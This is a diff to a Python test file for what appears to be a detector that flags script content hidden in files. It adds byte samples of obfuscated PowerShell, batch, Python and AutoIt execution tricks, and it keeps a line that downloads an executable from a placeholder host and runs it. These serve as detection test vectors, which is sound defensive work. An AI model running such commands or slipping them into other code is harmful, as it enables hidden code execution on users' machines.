@@ -94,7 +94,11 @@ def test_hostile_beginnings_are_linear(data):
     (b"[Desktop Entry]\nType=Application\nExec=/bin/x\n", "SCRIPT-SHELL-FILE"),
     (b"var n=['x','y'];new ActiveXObject(n[1]+n[0]);", "SCRIPT-HOST"), (b"For i=0 To 9\r\ns=s&a(i)\r\nNext\r\nExecuteGlobal s\r\n", "SCRIPT-HOST"),
     (b"-join((73,69,88)|%{[char]$_})|%{&$_ $x}", "SCRIPT-HOST"), (b"@{\r\nScriptsToProcess = 'a.ps1'\r\n}", "SCRIPT-HOST"),
-    (b"exec(marshal.loads(x))\n", "SCRIPT-SHELL"), (b"iwr https://h.invalid/a -OutFile a.exe; saps a.exe\r\n", "SCRIPT-HOST"),
+    (b"exec(marshal.loads(x))\n", "SCRIPT-SHELL"), (b"__import__('os').system('a')\n", "SCRIPT-SHELL"),
+    (b"[Reflection.Assembly]::Load($d).EntryPoint.Invoke(0,@())\r\n", "SCRIPT-HOST"), (b"sal q iex\r\nq (w h.example)\r\n", "SCRIPT-HOST"),
+    (b"Add-Type -TypeDefinition $c\r\n", "SCRIPT-HOST"), (b"&('{1}{0}' -f 'X','IE') 'calc'\r\n", "SCRIPT-HOST"),
+    (b"forfiles /p c:\\windows /c calc\r\n", "SCRIPT-BATCH"), (b"@goto b\r\n:a\r\n", "SCRIPT-BATCH"),
+    (b"#include <Process.au3>\r\nRun('calc')\r\n", "SCRIPT-HOST"), (b"iwr https://h.invalid/a -OutFile a.exe; saps a.exe\r\n", "SCRIPT-HOST"),
     (b"[scriptblock]::Create($x).Invoke()", "SCRIPT-HOST"), (b"$b[$i]=$b[$i] -bxor 35; $t | iex\r\n", "SCRIPT-HOST"),
     (b"[autorun]\r\nopen=a.exe\r\n", "SCRIPT-SETUP"), (b"[autorun]\ropen=a.exe\r", "SCRIPT-SETUP"),
 ])
@@ -108,6 +112,7 @@ def test_code_under_a_name_that_promises_no_text(data, code, name):
     (b"Start the service at https://h.example/\n", ("README",)), (b"certutil is a program\n", ("README",)),
     (b"We use <?= in templates\n", ("notes",)), (b"Avoid ActiveXObject (old) and ExecuteGlobal.\n", ("notes",)),
     (b"exec (the committee) met; -join us\n", ("notes",)),
+    (b"Add-Type and forfiles are commands.\nWe goto lunch\n& (see above)\n", ("note",)),
     (b"Call Bob: https://meet.example/\n", ("note",)), (b"PowerShell is a shell - compare it with others\n", ("note",)),
     (b"CHR(10) and CHR(13) end lines\n", ("note",)), (b"We set up CreateObject calls. Set limits.\n", ("note",)),
 ])
